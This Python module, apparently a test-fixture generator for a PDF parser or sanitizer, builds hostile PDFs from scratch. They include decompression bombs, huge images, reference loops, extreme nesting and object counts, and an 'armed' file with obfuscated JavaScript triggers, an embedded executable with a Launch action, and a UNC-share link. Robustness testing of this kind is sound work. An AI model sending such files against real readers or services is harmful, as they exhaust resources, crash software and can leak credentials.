"""Files made to harm whoever opens them, each built from nothing."""

from __future__ import annotations

import zlib
from collections.abc import Callable, Iterable


def document(objects: Iterable[bytes], *, trailer: bytes = b"", header: bytes = b"%PDF-1.7\n") -> bytes:
    """A file of these objects, numbered from 1; the first is the catalog."""
    out, offsets = bytearray(header), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Root 1 0 R /Size %d %b >>\nstartxref\n%d\n%%%%EOF\n" % (len(offsets) + 1, trailer, start)
    return bytes(out)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """A stream object's body."""
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(data), entries, data)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def page(more: bytes = b"") -> bytes:
    """A page's body; its content is object 4."""
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R %b >>" % more


def _deflated(size: int) -> bytes:
    """That many zeros, packed: one block, over and over."""
    packer, chunk = zlib.compressobj(9), b"0" * 1_000_000
    head = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    ends = zlib.adler32(chunk)
    for _ in range(size // len(chunk) - 1):
        ends = zlib.adler32(chunk, ends)
    return head + block * (size // len(chunk) - 1) + b"\x03\x00" + ends.to_bytes(4, "big")


_BOX = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [10 10 90 30] /F 4 >>"


def flate_bomb() -> bytes:
    """One megabyte that unpacks to one gigabyte, as a page's content."""
    return document([CATALOG, PAGES, page(), stream(_deflated(1_000_000_000), b"/Filter /FlateDecode")])


def double_flate() -> bytes:
    """Two kilobytes that unpack to 60 MB, called two hundred times."""
    packed = zlib.compress(_deflated(60_000_000), 9)
    body = stream(packed, b"/Filter [/FlateDecode /FlateDecode]")
    contents = b"/Contents [" + b"4 0 R " * 200 + b"]"
    return document([CATALOG, PAGES, page().replace(b"/Contents 4 0 R", contents), body])


def image_bomb() -> bytes:
    """A picture of 60,000 by 60,000 pixels."""
    image = stream(
        _deflated(400_000_000),
        b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceRGB"
        b" /Filter /FlateDecode",
    )
    content = stream(b"612 0 0 792 0 0 cm /I Do")
    return document([CATALOG, PAGES, page(b"/Resources << /XObject << /I 5 0 R >> >>"), content, image])


def many_widgets() -> bytes:
    """A hundred thousand boxes on one page."""
    count = 100_000
    kids = b" ".join(b"%d 0 R" % number for number in range(5, 5 + count))
    widget = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [10 10 90 30] /F 4 >>"
    return document([CATALOG, PAGES, page(b"/Annots [%b]" % kids), stream(b""), *([widget] * count)])


def many_objects() -> bytes:
    """Ninety thousand small objects that a page draws with."""
    count = 90_000
    states = b" ".join(b"/G%d %d 0 R" % (number, number) for number in range(5, 5 + count))
    state = b"<< /Type /ExtGState /LW 1 /D [[1 2 [3]] 0] >>"
    resources = b"/Resources << /ExtGState << %b >> >>" % states
    return document([CATALOG, PAGES, page(resources), stream(b"q Q"), *([state] * count)])


def long_string() -> bytes:
    """A page that draws with a string of three million letters, each spelled by four."""
    resources = b"/Resources << /ExtGState << /G << /D (%b) >> >> >>" % (b"\\001" * 3_000_000)
    return document([CATALOG, PAGES, page(resources), stream(b"q Q")])


def page_loop() -> bytes:
    """A page tree that holds itself."""
    return document([CATALOG, b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>", page(), stream(b"")])


def parent_loop() -> bytes:
    """A box whose parents go round in a circle."""
    widget = b"<< /Type /Annot /Subtype /Widget /Parent 6 0 R /Rect [10 10 90 30] /F 4 >>"
    return document(
        [
            CATALOG,
            PAGES,
            page(b"/Annots [5 0 R]"),
            stream(b""),
            widget,
            b"<< /T (a) /Parent 7 0 R >>",
            b"<< /Parent 6 0 R >>",
        ]
    )


def previous_loop() -> bytes:
    """A cross-reference table that names itself as the one before it."""
    plain = document([CATALOG, PAGES, page(), stream(b"")])
    start = plain[plain.rindex(b"startxref") + 10 :].split()[0]
    return plain.replace(b"/Size 5 ", b"/Size 5 /Prev %b " % start)


def deep_nesting() -> bytes:
    """An array within an array, fifty thousand times."""
    return document([CATALOG, PAGES, page(b"/Resources %b%b" % (b"[" * 50_000, b"]" * 50_000)), stream(b"")])


def long_length() -> bytes:
    """A stream that says it is two gigabytes long."""
    return document([CATALOG, PAGES, page(), b"<< /Length 2000000000 >>\nstream\nq Q\nendstream"])


def junk_table() -> bytes:
    """A cross-reference table of nonsense."""
    plain = document([CATALOG, PAGES, page(), stream(b"")])
    return plain[: plain.rindex(b"xref\n0")] + b"xref\n0 999999999\nnonsense\ntrailer\n<< >>\nstartxref\n7\n%%EOF"


def self_reference() -> bytes:
    """Objects that are nothing but references to themselves and each other."""
    return document(
        [CATALOG, PAGES, page(b"/Annots 6 0 R /Resources 5 0 R"), stream(b""), b"5 0 R", b"7 0 R", b"6 0 R"]
    )


def self_drawing() -> bytes:
    """A form XObject that draws itself."""
    form = stream(
        b"/X Do /X Do",
        b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>",
    )
    return document([CATALOG, PAGES, page(b"/Resources << /XObject << /X 5 0 R >> >>"), stream(b"/X Do"), form])


def blended() -> bytes:
    """A page that mixes itself with a sheet of ink three thousand times, under a box."""
    sheet = stream(
        b"0 0 612 792 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Group << /S /Transparency >>"
    )
    resources = b"/Resources << /XObject << /X 5 0 R >> /ExtGState << /G << /BM /Luminosity /ca 0.5 >> >> >>"
    content = stream(b"/G gs " + b"/X Do " * 3_000)
    return document([CATALOG, PAGES, page(resources + b" /Annots [6 0 R]"), content, sheet, _BOX])


def tiled() -> bytes:
    """A page laid out with tiles of a thousandth of a point, under a box."""
    tile = stream(
        b"0 0 1 1 re f",
        b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.001 /YStep 0.001"
        b" /Resources << >>",
    )
    resources = b"/Resources << /Pattern << /P 5 0 R >> >>"
    content = stream(b"/Pattern cs /P scn 0 0 612 792 re f")
    return document([CATALOG, PAGES, page(resources + b" /Annots [6 0 R]"), content, tile, _BOX])


def many_pages() -> bytes:
    """Fifty thousand pages."""
    kids = b"3 0 R " * 50_000
    return document([CATALOG, b"<< /Type /Pages /Kids [%b] /Count 50000 >>" % kids, page(), stream(b"")])


def huge_page() -> bytes:
    """A page of seven hundred metres."""
    return document([CATALOG, PAGES, page().replace(b"612 792", b"2000000 2000000"), stream(b"")])


def many_brackets() -> bytes:
    """Content of nothing but opened strings."""
    return document([CATALOG, PAGES, page(), stream(b"(" * 3_000_000)])


def no_pages() -> bytes:
    """A document without a page."""
    return document([CATALOG, b"<< /Type /Pages /Kids [] /Count 0 >>"])


def armed() -> bytes:
    """Everything that can run, open, send or hide, some of it spelled so that a plain search misses it."""
    script = b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"
    file = b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>"
    catalog = (
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 5 0 R >>"
        b" /Names << /JavaScript << /Names [(a) 5 0 R] >> /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>"
        b" /AF [6 0 R] /AcroForm << /Fields [8 0 R] /XFA (x) >>"
        b" /Metadata 7 0 R /Outlines << /First << /A 5 0 R >> >> >>"
    )
    widget = (
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [10 10 90 30] /F 4 /AA << /K 5 0 R >>"
        b" /A << /S /Launch /F (a.exe) >> >>"
    )
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (\\\\\\\\host\\\\share) >> >>"
    form = stream(
        b"0 0 5 5 re f",
        b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /PieceInfo << /X << /JS 5 0 R >> >> /Metadata 7 0 R",
    )
    return document(
        [
            catalog,
            PAGES,
            page(b"/AA << /O 5 0 R >> /Annots [8 0 R 9 0 R] /Resources << /XObject << /JS 10 0 R >> >>"),
            stream(b"/JS Do"),
            script,
            file,
            stream(b"MZ"),
            widget,
            link,
            form,
        ]
    )


ALL: tuple[Callable[[], bytes], ...] = (
    flate_bomb, double_flate, image_bomb, many_widgets, many_objects, long_string, page_loop, parent_loop,
    previous_loop, deep_nesting, long_length, junk_table, self_reference, self_drawing, many_pages, huge_page,
    many_brackets, blended, tiled, no_pages, armed,
)  # fmt: skip
